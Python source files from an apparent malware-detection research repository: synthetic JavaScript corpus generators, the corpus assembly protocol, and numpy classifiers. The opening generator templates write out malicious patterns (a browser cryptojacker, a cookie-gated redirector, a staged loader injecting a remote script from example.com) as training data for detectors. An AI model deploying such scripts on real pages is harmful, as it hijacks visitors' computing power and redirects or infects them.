        mix = f"h = ((h << {random_int(rng, 3, 7)}) - h + input.charCodeAt(i)) | 0;\n    h = h & 0x7fffffff;"
    if rng.random() < 0.5:
        loop = f"""while (true) {{
    {nonce} = {nonce} + 1;
    var digest = {hash_fn}(job.blob + {nonce});
    if (digest < target) {{
      return {{ nonce: {nonce}, result: digest }};
    }}
    if ({nonce} % {random_int(rng, 1000, 9999)} === 0) {{
      break;
    }}
  }}"""
    else:
        loop = f"""for (var step = 0; step < {random_int(rng, 2000, 20000)}; step++) {{
    {nonce} = {nonce} + 1;
    var digest = {hash_fn}(job.blob + {nonce});
    if (digest < target) {{
      return {{ nonce: {nonce}, result: digest }};
    }}
  }}"""
    if rng.random() < 0.6:
        transport = f"""var socket = new WebSocket("{pool}");
socket.onmessage = function(msg) {{
  var job = JSON.parse(msg.data);
  var found = {worker}(job);
  if (found) {{
    socket.send(JSON.stringify({{ id: job.id, nonce: found.nonce }}));
  }}
}};"""
    else:
        transport = f"""function poll() {{
  var req = new XMLHttpRequest();
  req.open("GET", "https://{random_string(rng, 1)}.example.net/job", true);
  req.onreadystatechange = function() {{
    if (req.readyState === 4 && req.status === 200) {{
      var job = JSON.parse(req.responseText);
      var found = {worker}(job);
      if (found) {{
        req.open("POST", "https://{random_string(rng, 1)}.example.net/submit", true);
        req.send(JSON.stringify(found));
      }}
    }}
  }};
  req.send(null);
  setTimeout(poll, {random_int(rng, 500, 5000)});
}}
poll();"""
    body = f"""
var {threads} = navigator.hardwareConcurrency || {random_int(rng, 2, 8)};
var {nonce} = 0;
function {hash_fn}(input) {{
  var h = {random_int(rng, 1, 65535)};
  for (var i = 0; i < input.length; i++) {{
    {mix}
  }}
  return h;
}}
function {worker}(job) {{
  var target = job.target | 0;
  {loop}
  return null;
}}
{transport}
"""
    return _wrap(rng, ids, body)


def _redirector(rng: np.random.Generator, ids: IdentifierPool) -> str:
    target_parts = [random_string(rng, 1) for _ in range(3)]
    assemble, destination = ids.fresh_function(), ids.fresh_var()
    # Variant axes: URL assembly style, gating condition, redirect sink.
    if rng.random() < 0.5:
        build = f"""function {assemble}() {{
  var p0 = "htt" + "ps:";
  var p1 = "//" + "{target_parts[0]}";
  var p2 = ".example" + ".org/";
  var p3 = "{target_parts[1]}" + "?" + "ref=" + escape(document.referrer);
  return p0 + p1 + p2 + p3;
}}"""
    else:
        chunks = ", ".join(f'"{c}"' for c in ["https", "://", target_parts[0], ".example.org", "/", target_parts[1]])
        build = f"""function {assemble}() {{
  var parts = [{chunks}];
  var url = "";
  for (var i = 0; i < parts.length; i++) {{
    url = url + parts[i];
  }}
  return url + "?ref=" + escape(document.referrer);
}}"""
    gate_roll = rng.random()
    if gate_roll < 0.4:
        gate = f'document.cookie.indexOf("{target_parts[2]}") === -1'
    elif gate_roll < 0.7:
        gate = f"document.referrer.length > {random_int(rng, 0, 10)}"
    else:
        gate = f'navigator.userAgent.indexOf("{random_string(rng, 1)}") === -1'
    if rng.random() < 0.6:
        sink = f"""setTimeout(function() {{
    window.location = {destination};
  }}, {random_int(rng, 50, 800)});"""
    else:
        sink = f"window.location.replace({destination});"
    body = f"""
{build}
var {destination} = {assemble}();
if ({gate}) {{
  document.cookie = "{target_parts[2]}=1; path=/";
  {sink}
}}
"""
    return _wrap(rng, ids, body)


def _staged_loader(rng: np.random.Generator, ids: IdentifierPool) -> str:
    stage, writer, chunks_var = ids.fresh_var(), ids.fresh_function(), ids.fresh_var()
    chunk_count = int(rng.integers(4, 9))
    tag_chunks = []
    script_text = f"<scr+ipt src=https://{random_string(rng, 1)}.example.com/{random_b64ish(rng, 6)}.js></scr+ipt>"
    step = max(1, len(script_text) // chunk_count)
    for i in range(0, len(script_text), step):
        tag_chunks.append(script_text[i : i + step].replace('"', ""))
    chunk_literals = ", ".join(f'"{c}"' for c in tag_chunks)
    # Variant axes: assembly loop direction, delivery sink.
    if rng.random() < 0.5:
        assembly = f"""var markup = "";
  for (var i = 0; i < pieces.length; i++) {{
    markup = markup + pieces[i];
  }}"""
    else:
        assembly = f"""var markup = "";
  var j = pieces.length - 1;
  while (j >= 0) {{
    markup = pieces[j] + markup;
    j = j - 1;
  }}"""
    sink_roll = rng.random()
    if sink_roll < 0.5:
        sink = f"document.write({stage});"
    elif sink_roll < 0.8:
        sink = f"""var holder = document.createElement("div");
holder.innerHTML = {stage};
document.body.appendChild(holder);"""
    else:
        sink = f"""setTimeout(function() {{
  document.write({stage});
}}, {random_int(rng, 10, 400)});"""
    body = f"""
var {chunks_var} = [{chunk_literals}];
function {writer}(pieces) {{
  {assembly}
  markup = markup.replace("+", "");
  markup = markup.replace("+", "");
  return markup;
}}
var {stage} = {writer}({chunks_var});
{sink}
"""
    return _wrap(rng, ids, body)


#: family name -> generator
MALICIOUS_FAMILIES = {
    "dropper": _eval_dropper,
    "heapspray": _heap_spray,
    "skimmer": _web_skimmer,
    "cryptojacker": _cryptojacker,
    "redirector": _redirector,
    "loader": _staged_loader,
}


def generate_malicious(rng: np.random.Generator, family: str | None = None) -> str:
    """One malicious script; optionally force a family.

    Identifiers come from the family's characteristic name pool (see
    ``_FAMILY_NAMES``) — matching how copy-pasted campaigns share names —
    with an occasional sample using generic names instead.
    """
    names = list(MALICIOUS_FAMILIES)
    if family is not None:
        if family not in MALICIOUS_FAMILIES:
            raise ValueError(f"unknown malicious family {family!r}")
        chosen = family
    else:
        chosen = str(rng.choice(names))
    ids = FamilyNamer(rng, chosen) if rng.random() < 0.8 else IdentifierPool(rng)
    return MALICIOUS_FAMILIES[chosen](rng, ids)
