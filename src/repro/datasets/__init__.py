"""Synthetic JavaScript corpora (the dataset substitution of DESIGN.md).

Seeded generators produce benign scripts (functionality-implementation
heavy) and inert malicious scripts (data-manipulation heavy), plus corpus
assembly utilities implementing the paper's experimental protocol.
"""

from .benign import BENIGN_FAMILIES, generate_benign
from .corpus import (
    TABLE1_SOURCES,
    Corpus,
    ExperimentSplit,
    build_corpus,
    build_realistic_corpus,
    experiment_split,
)
from .malicious import MALICIOUS_FAMILIES, generate_malicious

__all__ = [
    "BENIGN_FAMILIES",
    "generate_benign",
    "TABLE1_SOURCES",
    "Corpus",
    "ExperimentSplit",
    "build_corpus",
    "build_realistic_corpus",
    "experiment_split",
    "MALICIOUS_FAMILIES",
    "generate_malicious",
]
