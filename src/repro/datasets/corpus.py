"""Corpus assembly + the paper's training/evaluation protocol (Sec. IV-A4).

Builds seeded benign/malicious corpora from the synthetic generators, with
helpers implementing the paper's protocol: a held-out pre-training set for
the embedder, a balanced train split, and obfuscated test variants.
"""

from __future__ import annotations

from dataclasses import dataclass, field

import numpy as np

from repro.obfuscation import Minifier, WildObfuscator
from repro.obfuscation.base import Obfuscator

from .benign import BENIGN_FAMILIES, generate_benign
from .malicious import MALICIOUS_FAMILIES, generate_malicious


@dataclass
class Corpus:
    """Labeled script collection (1 = malicious, 0 = benign)."""

    sources: list[str] = field(default_factory=list)
    labels: list[int] = field(default_factory=list)
    families: list[str] = field(default_factory=list)

    def __len__(self) -> int:
        return len(self.sources)

    def subset(self, indices) -> "Corpus":
        return Corpus(
            sources=[self.sources[i] for i in indices],
            labels=[self.labels[i] for i in indices],
            families=[self.families[i] for i in indices],
        )

    def obfuscated(self, obfuscator: Obfuscator) -> "Corpus":
        """Corpus with every script passed through an obfuscator.

        A script the obfuscator cannot process (parser subset gaps on
        adversarial generator output) is kept unobfuscated, mirroring how
        the real tools pass through inputs they fail on.
        """
        out = Corpus(labels=list(self.labels), families=list(self.families))
        for source in self.sources:
            try:
                out.sources.append(obfuscator.obfuscate(source))
            except Exception:
                out.sources.append(source)
        return out

    @property
    def label_array(self) -> np.ndarray:
        return np.asarray(self.labels, dtype=int)


def build_corpus(
    n_benign: int,
    n_malicious: int,
    seed: int = 0,
    benign_family: str | None = None,
    malicious_family: str | None = None,
) -> Corpus:
    """Generate a labeled corpus with the given class sizes."""
    rng = np.random.default_rng(seed)
    corpus = Corpus()
    benign_names = list(BENIGN_FAMILIES)
    malicious_names = list(MALICIOUS_FAMILIES)
    for i in range(n_benign):
        family = benign_family or benign_names[i % len(benign_names)]
        corpus.sources.append(generate_benign(rng, family=family))
        corpus.labels.append(0)
        corpus.families.append(f"benign:{family}")
    for i in range(n_malicious):
        family = malicious_family or malicious_names[i % len(malicious_names)]
        corpus.sources.append(generate_malicious(rng, family=family))
        corpus.labels.append(1)
        corpus.families.append(f"malicious:{family}")
    order = rng.permutation(len(corpus))
    return corpus.subset(order)


def build_realistic_corpus(
    n_benign: int,
    n_malicious: int,
    seed: int = 0,
    malicious_obfuscation_rate: float = 0.5,
    benign_minify_rate: float = 0.4,
    benign_obfuscation_rate: float = 0.10,
) -> Corpus:
    """Corpus matching the paper's description of *in-the-wild* data.

    Per Moog et al. (Sec. II-B of the paper): most benign scripts are
    minified and a small fraction carry real obfuscation, while a large
    fraction of malicious scripts already ship obfuscated (by varied
    tools).  This mixture is what produces the baseline failure modes the
    paper measures — token detectors learn "obfuscation features" as
    malice cues, then misfire on obfuscated benign test samples.
    """
    rng = np.random.default_rng(seed)
    corpus = build_corpus(n_benign, n_malicious, seed=seed)
    # Training-time obfuscation is *wild* (ad-hoc transformations): the
    # paper's Sec. IV-A1 notes the collected samples are obfuscated "in
    # ways we are not sure of", and the four evaluation tools are applied
    # only to the test set.  (Mixing the evaluation tools into training
    # makes "tool artifact present" itself a label-correlated feature at
    # this 50%-vs-10% class imbalance and distorts every detector; see
    # EXPERIMENTS.md for the ablation note.)
    tools: list[Obfuscator] = [
        WildObfuscator(seed=int(rng.integers(0, 2**31))) for _ in range(4)
    ]
    minifier = Minifier(seed=int(rng.integers(0, 2**31)))

    out = Corpus(labels=list(corpus.labels), families=list(corpus.families))
    for source, label in zip(corpus.sources, corpus.labels):
        roll = rng.random()
        transform = None
        if label == 1 and roll < malicious_obfuscation_rate:
            transform = tools[int(rng.integers(0, len(tools)))]
        elif label == 0 and roll < benign_obfuscation_rate:
            transform = tools[int(rng.integers(0, len(tools)))]
        elif label == 0 and roll < benign_obfuscation_rate + benign_minify_rate:
            transform = minifier
        if transform is not None:
            try:
                source = transform.obfuscate(source)
            except Exception:
                pass
        out.sources.append(source)
    return out


@dataclass
class ExperimentSplit:
    """The paper's protocol: pretrain / train / test partitions."""

    pretrain: Corpus
    train: Corpus
    test: Corpus


def experiment_split(
    seed: int = 0,
    pretrain_per_class: int = 30,
    train_per_class: int = 60,
    test_per_class: int = 40,
    realistic: bool = False,
) -> ExperimentSplit:
    """Build disjoint pretrain/train/test corpora (balanced classes).

    The paper pre-trains the embedder on 5,000 extra scripts, trains on a
    balanced 20k/20k sample, and tests on the remainder; these defaults
    scale that protocol to CPU-friendly sizes while keeping every set
    disjoint and balanced.  ``realistic=True`` draws from
    :func:`build_realistic_corpus` (in-the-wild obfuscation mixture) — the
    mode the comparison benchmarks use.
    """
    per_class = pretrain_per_class + train_per_class + test_per_class
    builder = build_realistic_corpus if realistic else build_corpus
    corpus = builder(per_class, per_class, seed=seed)
    benign_idx = [i for i, y in enumerate(corpus.labels) if y == 0]
    malicious_idx = [i for i, y in enumerate(corpus.labels) if y == 1]

    def take(idx_list, count, offset):
        return idx_list[offset : offset + count]

    pretrain_idx = take(benign_idx, pretrain_per_class, 0) + take(malicious_idx, pretrain_per_class, 0)
    train_idx = take(benign_idx, train_per_class, pretrain_per_class) + take(
        malicious_idx, train_per_class, pretrain_per_class
    )
    test_idx = take(benign_idx, test_per_class, pretrain_per_class + train_per_class) + take(
        malicious_idx, test_per_class, pretrain_per_class + train_per_class
    )
    return ExperimentSplit(
        pretrain=corpus.subset(pretrain_idx),
        train=corpus.subset(train_idx),
        test=corpus.subset(test_idx),
    )


#: The dataset composition table (Table I analog): source name → generator
#: family mix and the paper's original counts, for the dataset bench.
TABLE1_SOURCES = (
    ("Malicious", "HynekPetrak (droppers/loaders)", 39450, ("dropper", "loader")),
    ("Malicious", "GeeksOnSecurity exploit kits", 1370, ("heapspray",)),
    ("Malicious", "VirusTotal additions", 1778, ("skimmer", "cryptojacker", "redirector")),
    ("Benign", "150k JavaScript Dataset", 150000, ("config", "validation", "ajax")),
    ("Benign", "Alexa Top-10k crawl", 65203, ("widget", "dom", "animation")),
)
