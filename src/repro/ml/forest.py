"""Random forest classifier (bagged CART trees, sqrt-feature splits).

JSRevealer, JAST, and JSTAP all use a random forest as their final
classifier; the Gini ``feature_importances_`` this class exposes drive the
paper's RQ3 interpretability analysis (Table VII).
"""

from __future__ import annotations

import numpy as np

from .tree import DecisionTreeClassifier


class RandomForestClassifier:
    """Bootstrap-aggregated decision trees with majority-probability voting.

    Args:
        n_estimators: Number of trees.
        max_depth: Per-tree depth cap.
        max_features: Features examined per split; default "sqrt".
        min_samples_leaf: Leaf size floor per tree.
        random_state: Seed for bootstrapping and feature subsampling.
    """

    def __init__(
        self,
        n_estimators: int = 100,
        max_depth: int | None = None,
        max_features: int | str | None = "sqrt",
        min_samples_leaf: int = 1,
        random_state: int | None = None,
    ):
        if n_estimators <= 0:
            raise ValueError("n_estimators must be positive")
        self.n_estimators = n_estimators
        self.max_depth = max_depth
        self.max_features = max_features
        self.min_samples_leaf = min_samples_leaf
        self.random_state = random_state
        self.estimators_: list[DecisionTreeClassifier] = []
        self.classes_: np.ndarray | None = None
        self.feature_importances_: np.ndarray | None = None

    def fit(self, X, y) -> "RandomForestClassifier":
        X = np.asarray(X, dtype=float)
        y = np.asarray(y)
        if len(X) != len(y):
            raise ValueError("X and y length mismatch")
        rng = np.random.default_rng(self.random_state)
        self.classes_ = np.unique(y)
        self.estimators_ = []
        n = len(y)

        importance_sum = np.zeros(X.shape[1])
        for _ in range(self.n_estimators):
            indices = rng.integers(0, n, size=n)  # bootstrap sample
            tree = DecisionTreeClassifier(
                max_depth=self.max_depth,
                max_features=self.max_features,
                min_samples_leaf=self.min_samples_leaf,
                rng=np.random.default_rng(rng.integers(0, 2**63)),
            )
            tree.fit(X[indices], y[indices])
            self.estimators_.append(tree)
            importance_sum += self._aligned_importances(tree, X.shape[1])

        total = importance_sum.sum()
        self.feature_importances_ = importance_sum / total if total > 0 else importance_sum
        return self

    def _aligned_importances(self, tree: DecisionTreeClassifier, n_features: int) -> np.ndarray:
        importances = tree.feature_importances_
        if importances is None:
            return np.zeros(n_features)
        return importances

    def predict_proba(self, X) -> np.ndarray:
        if not self.estimators_ or self.classes_ is None:
            raise RuntimeError("Classifier used before fit()")
        X = np.asarray(X, dtype=float)
        acc = np.zeros((len(X), len(self.classes_)))
        for tree in self.estimators_:
            proba = tree.predict_proba(X)
            # Trees trained on bootstrap samples may have seen a subset of
            # classes; align their columns with the forest's class list.
            aligned = np.zeros_like(acc)
            for j, cls in enumerate(tree.classes_):
                col = int(np.searchsorted(self.classes_, cls))
                aligned[:, col] = proba[:, j]
            acc += aligned
        return acc / len(self.estimators_)

    def predict(self, X) -> np.ndarray:
        proba = self.predict_proba(X)
        return self.classes_[np.argmax(proba, axis=1)]
