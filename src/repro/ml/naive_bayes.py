"""Naive Bayes classifiers.

* :class:`GaussianNB` — the "Gaussian naive Bayes" row of Table II.
* :class:`BernoulliNB` — the classifier ZOZZLE's original pipeline uses over
  its boolean AST-context features (our ZOZZLE baseline keeps that choice).
"""

from __future__ import annotations

import numpy as np


class GaussianNB:
    """Gaussian naive Bayes with per-class feature means and variances."""

    def __init__(self, var_smoothing: float = 1e-9):
        self.var_smoothing = var_smoothing
        self.classes_: np.ndarray | None = None
        self.theta_: np.ndarray | None = None  # (n_classes, n_features) means
        self.var_: np.ndarray | None = None
        self.class_prior_: np.ndarray | None = None

    def fit(self, X, y) -> "GaussianNB":
        X = np.asarray(X, dtype=float)
        y = np.asarray(y)
        self.classes_ = np.unique(y)
        n_classes, n_features = len(self.classes_), X.shape[1]
        self.theta_ = np.zeros((n_classes, n_features))
        self.var_ = np.zeros((n_classes, n_features))
        self.class_prior_ = np.zeros(n_classes)

        global_var = X.var(axis=0).max() if len(X) else 1.0
        epsilon = self.var_smoothing * max(global_var, 1e-12)
        for i, cls in enumerate(self.classes_):
            rows = X[y == cls]
            self.theta_[i] = rows.mean(axis=0)
            self.var_[i] = rows.var(axis=0) + epsilon
            self.class_prior_[i] = len(rows) / len(X)
        return self

    def _joint_log_likelihood(self, X) -> np.ndarray:
        X = np.asarray(X, dtype=float)
        jll = np.zeros((len(X), len(self.classes_)))
        for i in range(len(self.classes_)):
            prior = np.log(self.class_prior_[i])
            gauss = -0.5 * np.sum(
                np.log(2.0 * np.pi * self.var_[i]) + (X - self.theta_[i]) ** 2 / self.var_[i],
                axis=1,
            )
            jll[:, i] = prior + gauss
        return jll

    def predict(self, X) -> np.ndarray:
        if self.classes_ is None:
            raise RuntimeError("Classifier used before fit()")
        return self.classes_[np.argmax(self._joint_log_likelihood(X), axis=1)]

    def predict_proba(self, X) -> np.ndarray:
        jll = self._joint_log_likelihood(X)
        jll -= jll.max(axis=1, keepdims=True)
        p = np.exp(jll)
        return p / p.sum(axis=1, keepdims=True)


class BernoulliNB:
    """Bernoulli naive Bayes over binary feature vectors with Laplace smoothing."""

    def __init__(self, alpha: float = 1.0, binarize: float | None = 0.0):
        self.alpha = alpha
        self.binarize = binarize
        self.classes_: np.ndarray | None = None
        self.feature_log_prob_: np.ndarray | None = None
        self.class_log_prior_: np.ndarray | None = None

    def _binarize(self, X) -> np.ndarray:
        X = np.asarray(X, dtype=float)
        if self.binarize is not None:
            X = (X > self.binarize).astype(float)
        return X

    def fit(self, X, y) -> "BernoulliNB":
        X = self._binarize(X)
        y = np.asarray(y)
        self.classes_ = np.unique(y)
        n_classes = len(self.classes_)
        counts = np.zeros((n_classes, X.shape[1]))
        class_counts = np.zeros(n_classes)
        for i, cls in enumerate(self.classes_):
            rows = X[y == cls]
            counts[i] = rows.sum(axis=0)
            class_counts[i] = len(rows)
        smoothed = (counts + self.alpha) / (class_counts[:, None] + 2.0 * self.alpha)
        self.feature_log_prob_ = np.log(smoothed)
        self._neg_log_prob = np.log(1.0 - smoothed)
        self.class_log_prior_ = np.log(class_counts / class_counts.sum())
        return self

    def _joint_log_likelihood(self, X) -> np.ndarray:
        X = self._binarize(X)
        return (
            X @ self.feature_log_prob_.T
            + (1.0 - X) @ self._neg_log_prob.T
            + self.class_log_prior_
        )

    def predict(self, X) -> np.ndarray:
        if self.classes_ is None:
            raise RuntimeError("Classifier used before fit()")
        return self.classes_[np.argmax(self._joint_log_likelihood(X), axis=1)]

    def predict_proba(self, X) -> np.ndarray:
        jll = self._joint_log_likelihood(X)
        jll -= jll.max(axis=1, keepdims=True)
        p = np.exp(jll)
        return p / p.sum(axis=1, keepdims=True)
