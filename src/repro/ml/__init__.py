"""Machine-learning substrate (the repository's scikit-learn substitute).

Implements, with numpy only, every learner the paper and its baselines
need: CART decision trees, random forests with Gini importances, logistic
regression, Gaussian/Bernoulli naive Bayes, a linear SVM, K-Means and
Bisecting K-Means, plus metrics, preprocessing, and split utilities.
"""

from .forest import RandomForestClassifier
from .kmeans import BisectingKMeans, KMeans, elbow_sse
from .logistic import LogisticRegression
from .metrics import (
    DetectionReport,
    accuracy,
    confusion_counts,
    detection_report,
    f1_score,
    false_negative_rate,
    false_positive_rate,
    precision,
    recall,
)
from .model_selection import stratified_sample, train_test_split
from .naive_bayes import BernoulliNB, GaussianNB
from .preprocessing import CountVectorizer, HashingVectorizer, MinMaxScaler, ngrams
from .svm import LinearSVC
from .tree import DecisionTreeClassifier

__all__ = [
    "RandomForestClassifier",
    "BisectingKMeans",
    "KMeans",
    "elbow_sse",
    "LogisticRegression",
    "DetectionReport",
    "accuracy",
    "confusion_counts",
    "detection_report",
    "f1_score",
    "false_negative_rate",
    "false_positive_rate",
    "precision",
    "recall",
    "stratified_sample",
    "train_test_split",
    "BernoulliNB",
    "GaussianNB",
    "CountVectorizer",
    "HashingVectorizer",
    "MinMaxScaler",
    "ngrams",
    "LinearSVC",
    "DecisionTreeClassifier",
]
