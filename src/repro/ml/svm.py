"""Linear SVM trained with Pegasos-style stochastic subgradient descent.

CUJO's published pipeline classifies hashed n-gram vectors with a linear
SVM; Table II's "SVM" row also uses this class.
"""

from __future__ import annotations

import numpy as np


class LinearSVC:
    """Hinge-loss linear classifier with L2 regularization (Pegasos).

    Args:
        C: Inverse regularization strength (larger = less regularized).
        n_iter: Epochs over the training set.
        random_state: Seed for the sampling order.
    """

    def __init__(self, C: float = 1.0, n_iter: int = 20, random_state: int | None = None):
        if C <= 0:
            raise ValueError("C must be positive")
        self.C = C
        self.n_iter = n_iter
        self.random_state = random_state
        self.coef_: np.ndarray | None = None
        self.intercept_: float = 0.0
        self.classes_: np.ndarray | None = None

    def fit(self, X, y) -> "LinearSVC":
        X = np.asarray(X, dtype=float)
        y = np.asarray(y)
        self.classes_ = np.unique(y)
        if len(self.classes_) != 2:
            raise ValueError("LinearSVC supports binary labels only")
        target = np.where(y == self.classes_[1], 1.0, -1.0)

        n, d = X.shape
        lam = 1.0 / (self.C * n)
        w = np.zeros(d)
        b = 0.0
        rng = np.random.default_rng(self.random_state)
        t = 0
        for _ in range(self.n_iter):
            for i in rng.permutation(n):
                t += 1
                eta = 1.0 / (lam * t)
                margin = target[i] * (X[i] @ w + b)
                if margin < 1.0:
                    w = (1.0 - eta * lam) * w + eta * target[i] * X[i]
                    b += eta * target[i]
                else:
                    w = (1.0 - eta * lam) * w
        self.coef_ = w
        self.intercept_ = b
        return self

    def decision_function(self, X) -> np.ndarray:
        if self.coef_ is None:
            raise RuntimeError("Classifier used before fit()")
        return np.asarray(X, dtype=float) @ self.coef_ + self.intercept_

    def predict(self, X) -> np.ndarray:
        assert self.classes_ is not None
        return np.where(self.decision_function(X) >= 0.0, self.classes_[1], self.classes_[0])

    def predict_proba(self, X) -> np.ndarray:
        """Platt-style squashing of the margin — rough, but lets callers
        that expect probabilities (ensembles, thresholds) work uniformly."""
        score = self.decision_function(X)
        p1 = 1.0 / (1.0 + np.exp(-score))
        return np.column_stack([1.0 - p1, p1])
