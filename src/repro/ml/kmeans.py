"""K-Means and Bisecting K-Means clustering.

Section III-D: the paper clusters path vectors with *Bisecting* K-Means —
start from one cluster and repeatedly split the cluster with the largest
SSE using 2-means, which removes the initial-centroid sensitivity of plain
K-Means.  Both variants are provided so the ablation bench can compare them.
"""

from __future__ import annotations

import numpy as np


def _sse(X: np.ndarray, center: np.ndarray) -> float:
    return float(np.sum((X - center) ** 2))


class KMeans:
    """Lloyd's algorithm with k-means++ initialization.

    Args:
        n_clusters: Number of clusters K.
        n_init: Restarts; the best SSE wins.
        max_iter: Lloyd iterations per restart.
        tol: Center-shift convergence threshold.
        random_state: Seed.
    """

    def __init__(
        self,
        n_clusters: int = 8,
        n_init: int = 4,
        max_iter: int = 100,
        tol: float = 1e-6,
        random_state: int | None = None,
    ):
        if n_clusters <= 0:
            raise ValueError("n_clusters must be positive")
        self.n_clusters = n_clusters
        self.n_init = n_init
        self.max_iter = max_iter
        self.tol = tol
        self.random_state = random_state
        self.cluster_centers_: np.ndarray | None = None
        self.labels_: np.ndarray | None = None
        self.inertia_: float = np.inf

    # ------------------------------------------------------------------ fit

    def fit(self, X) -> "KMeans":
        X = np.asarray(X, dtype=float)
        if len(X) < self.n_clusters:
            raise ValueError(f"n_samples={len(X)} < n_clusters={self.n_clusters}")
        rng = np.random.default_rng(self.random_state)

        best_inertia = np.inf
        best_centers = None
        best_labels = None
        for _ in range(self.n_init):
            centers = self._kmeanspp(X, rng)
            centers, labels, inertia = self._lloyd(X, centers)
            if inertia < best_inertia:
                best_inertia, best_centers, best_labels = inertia, centers, labels

        self.cluster_centers_ = best_centers
        self.labels_ = best_labels
        self.inertia_ = float(best_inertia)
        return self

    def _kmeanspp(self, X: np.ndarray, rng: np.random.Generator) -> np.ndarray:
        n = len(X)
        centers = np.empty((self.n_clusters, X.shape[1]))
        centers[0] = X[rng.integers(n)]
        closest_sq = np.sum((X - centers[0]) ** 2, axis=1)
        for k in range(1, self.n_clusters):
            total = closest_sq.sum()
            if total <= 0:
                centers[k:] = X[rng.integers(n, size=self.n_clusters - k)]
                break
            probs = closest_sq / total
            centers[k] = X[rng.choice(n, p=probs)]
            closest_sq = np.minimum(closest_sq, np.sum((X - centers[k]) ** 2, axis=1))
        return centers

    def _lloyd(self, X: np.ndarray, centers: np.ndarray) -> tuple[np.ndarray, np.ndarray, float]:
        for _ in range(self.max_iter):
            distances = _pairwise_sq(X, centers)
            labels = np.argmin(distances, axis=1)
            new_centers = centers.copy()
            for k in range(len(centers)):
                members = X[labels == k]
                if len(members):
                    new_centers[k] = members.mean(axis=0)
            shift = float(np.sum((new_centers - centers) ** 2))
            centers = new_centers
            if shift < self.tol:
                break
        distances = _pairwise_sq(X, centers)
        labels = np.argmin(distances, axis=1)
        inertia = float(distances[np.arange(len(X)), labels].sum())
        return centers, labels, inertia

    # -------------------------------------------------------------- predict

    def predict(self, X) -> np.ndarray:
        if self.cluster_centers_ is None:
            raise RuntimeError("KMeans used before fit()")
        X = np.asarray(X, dtype=float)
        return np.argmin(_pairwise_sq(X, self.cluster_centers_), axis=1)

    def fit_predict(self, X) -> np.ndarray:
        self.fit(X)
        assert self.labels_ is not None
        return self.labels_


class BisectingKMeans:
    """Bisecting K-Means: repeatedly 2-means-split the worst cluster.

    Deterministic given ``random_state``, and insensitive to global
    initialization — the property the paper picks it for.
    """

    def __init__(self, n_clusters: int = 8, n_init: int = 4, max_iter: int = 100, random_state: int | None = None):
        if n_clusters <= 0:
            raise ValueError("n_clusters must be positive")
        self.n_clusters = n_clusters
        self.n_init = n_init
        self.max_iter = max_iter
        self.random_state = random_state
        self.cluster_centers_: np.ndarray | None = None
        self.labels_: np.ndarray | None = None
        self.inertia_: float = np.inf

    def fit(self, X) -> "BisectingKMeans":
        X = np.asarray(X, dtype=float)
        if len(X) < self.n_clusters:
            raise ValueError(f"n_samples={len(X)} < n_clusters={self.n_clusters}")
        rng = np.random.default_rng(self.random_state)

        # Start with everything in one cluster.
        clusters: list[np.ndarray] = [np.arange(len(X))]
        while len(clusters) < self.n_clusters:
            # Split the cluster with the largest SSE that is still splittable.
            sses = []
            for indices in clusters:
                members = X[indices]
                sses.append(_sse(members, members.mean(axis=0)) if len(indices) > 1 else -1.0)
            worst = int(np.argmax(sses))
            if sses[worst] < 0:
                break  # nothing splittable left
            indices = clusters.pop(worst)
            members = X[indices]
            split = KMeans(
                n_clusters=2,
                n_init=self.n_init,
                max_iter=self.max_iter,
                random_state=int(rng.integers(0, 2**31)),
            ).fit(members)
            left = indices[split.labels_ == 0]
            right = indices[split.labels_ == 1]
            if len(left) == 0 or len(right) == 0:  # degenerate split
                clusters.append(indices)
                break
            clusters.extend([left, right])

        centers = np.vstack([X[indices].mean(axis=0) for indices in clusters])
        labels = np.empty(len(X), dtype=int)
        for k, indices in enumerate(clusters):
            labels[indices] = k
        self.cluster_centers_ = centers
        self.labels_ = labels
        self.inertia_ = float(
            sum(_sse(X[indices], centers[k]) for k, indices in enumerate(clusters))
        )
        return self

    def predict(self, X) -> np.ndarray:
        if self.cluster_centers_ is None:
            raise RuntimeError("BisectingKMeans used before fit()")
        X = np.asarray(X, dtype=float)
        return np.argmin(_pairwise_sq(X, self.cluster_centers_), axis=1)

    def fit_predict(self, X) -> np.ndarray:
        self.fit(X)
        assert self.labels_ is not None
        return self.labels_


def _pairwise_sq(X: np.ndarray, centers: np.ndarray) -> np.ndarray:
    """Squared Euclidean distances between rows of X and rows of centers."""
    x_sq = np.sum(X**2, axis=1)[:, None]
    c_sq = np.sum(centers**2, axis=1)[None, :]
    cross = X @ centers.T
    return np.maximum(x_sq + c_sq - 2.0 * cross, 0.0)


def elbow_sse(X, k_values, random_state: int | None = None, bisecting: bool = True) -> list[float]:
    """SSE (inertia) for each K — the curve of the paper's Figure 5."""
    X = np.asarray(X, dtype=float)
    out = []
    for k in k_values:
        cls = BisectingKMeans if bisecting else KMeans
        model = cls(n_clusters=int(k), random_state=random_state)
        model.fit(X)
        out.append(model.inertia_)
    return out
