"""Feature selection: chi-squared scoring for boolean features.

ZOZZLE's published pipeline selects its (context, text) features with a
chi-squared test against the class label before training naive Bayes; this
module provides that scorer for the baseline.
"""

from __future__ import annotations

import numpy as np


def chi2_scores(X, y) -> np.ndarray:
    """Chi-squared statistic of each boolean column against binary labels.

    Args:
        X: (n_samples, n_features) matrix; treated as presence indicators
            (non-zero = present).
        y: Binary labels (0/1).

    Returns:
        Per-feature chi-squared statistics (0 for degenerate columns).
    """
    X = (np.asarray(X) > 0).astype(float)
    y = np.asarray(y).astype(int)
    n = len(y)
    if n == 0:
        raise ValueError("empty input")

    positives = float(np.sum(y == 1))
    negatives = float(n - positives)

    present = X.sum(axis=0)  # per-feature: samples containing the feature
    present_pos = X[y == 1].sum(axis=0)
    present_neg = present - present_pos
    absent_pos = positives - present_pos
    absent_neg = negatives - present_neg

    # Vectorized 2x2 chi-squared with the continuity-free formula:
    # chi2 = n (ad - bc)^2 / ((a+b)(c+d)(a+c)(b+d))
    a, b, c, d = present_pos, present_neg, absent_pos, absent_neg
    numerator = n * (a * d - b * c) ** 2
    denominator = (a + b) * (c + d) * (a + c) * (b + d)
    with np.errstate(divide="ignore", invalid="ignore"):
        scores = np.where(denominator > 0, numerator / denominator, 0.0)
    return scores


def select_top_k(X, y, k: int) -> np.ndarray:
    """Indices of the k features with the highest chi-squared scores."""
    scores = chi2_scores(X, y)
    k = min(k, X.shape[1])
    return np.argsort(scores)[::-1][:k]
