"""Feature preprocessing: scaling and n-gram vectorization."""

from __future__ import annotations

import numpy as np


class MinMaxScaler:
    """Min–max normalization to [0, 1] (Eq. 6 of the paper).

    Constant columns map to 0.  ``fit`` learns per-column min/max;
